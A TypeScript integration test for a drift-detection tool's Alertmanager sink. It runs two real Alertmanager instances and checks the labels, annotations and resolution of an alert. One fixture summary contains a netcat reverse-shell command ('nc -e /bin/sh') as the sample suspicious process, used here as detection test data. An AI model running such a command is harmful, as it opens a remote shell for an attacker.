/**
 * Against the real Alertmanager (Debian `prometheus-alertmanager`, two instances as an HA pair):
 * deviations driven through a real bus and the alerting component are read back from
 * Alertmanager's own API with their labels and annotations; resolving ends them there.
 */
import t from 'tap';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { CollectorBus } from '../../collector/events.js';
import { openDatabase } from '../../collector/store/db.js';
import { alertingConfig, deviation, FAST, startAlerting, withStatus } from './helpers.js';

const BINARY = 'prometheus-alertmanager';

interface AmAlert {
  labels: Record<string, string>;
  annotations: Record<string, string>;
  startsAt: string;
  endsAt: string;
  generatorURL?: string;
  status: { state: string };
}

function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const s = createServer();
    s.once('error', reject);
    s.listen(0, '127.0.0.1', () => {
      const port = (s.address() as { port: number }).port;
      s.close(() => resolve(port));
    });
  });
}

async function startAlertmanager(dir: string): Promise<{ url: string; proc: ChildProcess }> {
  const port = await freePort();
  const config = join(dir, 'alertmanager.yml');
  writeFileSync(config, 'route:\n  receiver: blackhole\n  group_wait: 1h\nreceivers:\n  - name: blackhole\n');
  const proc = spawn(BINARY, [`--config.file=${config}`, `--storage.path=${dir}`, `--web.listen-address=127.0.0.1:${port}`, '--cluster.listen-address=', '--log.level=warn'], { stdio: ['ignore', 'ignore', 'pipe'] });
  let stderr = '';
  proc.stderr!.on('data', (c: Buffer) => (stderr = (stderr + c.toString()).slice(-2000)));
  const url = `http://127.0.0.1:${port}`;
  for (let i = 0; ; i++) {
    if (proc.exitCode !== null) throw new Error(`alertmanager exited: ${stderr}`);
    try {
      if ((await fetch(`${url}/-/ready`)).ok) return { url, proc };
    } catch {
      // not listening yet
    }
    if (i > 300) throw new Error(`alertmanager not ready: ${stderr}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

async function alerts(url: string): Promise<AmAlert[]> {
  const res = await fetch(`${url}/api/v2/alerts`);
  return (await res.json()) as AmAlert[];
}

async function poll(check: () => Promise<boolean>): Promise<void> {
  while (!(await check())) await new Promise((r) => setTimeout(r, 50));
}

const installed = spawnSync(BINARY, ['--version']).status === 0;

t.test('real Alertmanager HA pair: labels, annotations, resolution', { skip: installed ? false : `${BINARY} is not installed (apt-get install prometheus-alertmanager)` }, async (t) => {
  const root = t.testdir();
  const ams: { url: string; proc: ChildProcess }[] = [];
  t.teardown(async () => {
    for (const am of ams) {
      if (am.proc.exitCode !== null) continue;
      const exited = new Promise((r) => am.proc.once('exit', r));
      am.proc.kill('SIGTERM');
      await exited;
    }
  });
  for (const name of ['am-a', 'am-b']) {
    mkdirSync(join(root, name));
    ams.push(await startAlertmanager(join(root, name)));
  }
  const db = openDatabase({ dataDir: join(t.testdir(), 'db') });
  t.teardown(() => db.close());
  const bus = new CollectorBus();
  const alerting = startAlerting(db, bus, alertingConfig({ ...FAST, sinks: [{ name: 'am', type: 'alertmanager', urls: ams.map((a) => a.url) }] }));
  t.teardown(() => alerting.close());
  await alerting.start();

  const d = deviation({ severity: 'critical', firstSeenMs: Date.now() - 60_000, summary: 'new process /usr/bin/nc -e /bin/sh <evil> in payments/api', pods: ['api-5d9c7-abcde', 'api-5d9c7-fghij'] });
  bus.emit({ type: 'deviation.created', deviation: d });

  for (const am of ams) {
    let got: AmAlert | undefined;
    await poll(async () => (got = (await alerts(am.url)).find((a) => a.labels.deviation_id === String(d.id))) !== undefined);
    t.same(got!.labels, {
      alertname: 'DriftwatchDeviation',
      severity: 'critical',
      cluster: 'test',
      namespace: 'payments',
      workload: 'api',
      workload_kind: 'Deployment',
      container: 'app',
      deviation_kind: 'process',
      deviation_id: String(d.id),
    }, `${am.url}: labels`);
    t.equal(got!.annotations.summary, d.summary, 'summary annotation, text intact');
    t.match(got!.annotations.description, /pods: api-5d9c7-abcde, api-5d9c7-fghij/);
    t.match(got!.annotations.description, /lineage: /);
    t.match(got!.annotations.description, /first seen: /);
    t.equal(got!.annotations.url, `https://driftwatch.example/ui/deviations/${d.id}`);
    t.equal(got!.generatorURL, `https://driftwatch.example/ui/deviations/${d.id}`);
    t.equal(Date.parse(got!.startsAt), d.firstSeenMs, 'startsAt = first seen');
    t.ok(Date.parse(got!.endsAt) > Date.now(), 'still firing for a while without a re-post');
    t.equal(got!.status.state, 'active');
  }

  bus.emit({ type: 'deviation.status', deviation: withStatus(d, 'added-to-baseline'), previous: 'open', actor: 'alice' });
  for (const am of ams) {
    // Alertmanager drops resolved alerts from its list, or shows them with endsAt in the past.
    await poll(async () => {
      const a = (await alerts(am.url)).find((x) => x.labels.deviation_id === String(d.id));
      return !a || Date.parse(a.endsAt) <= Date.now();
    });
    t.pass(`${am.url}: the alert ended`);
  }
});
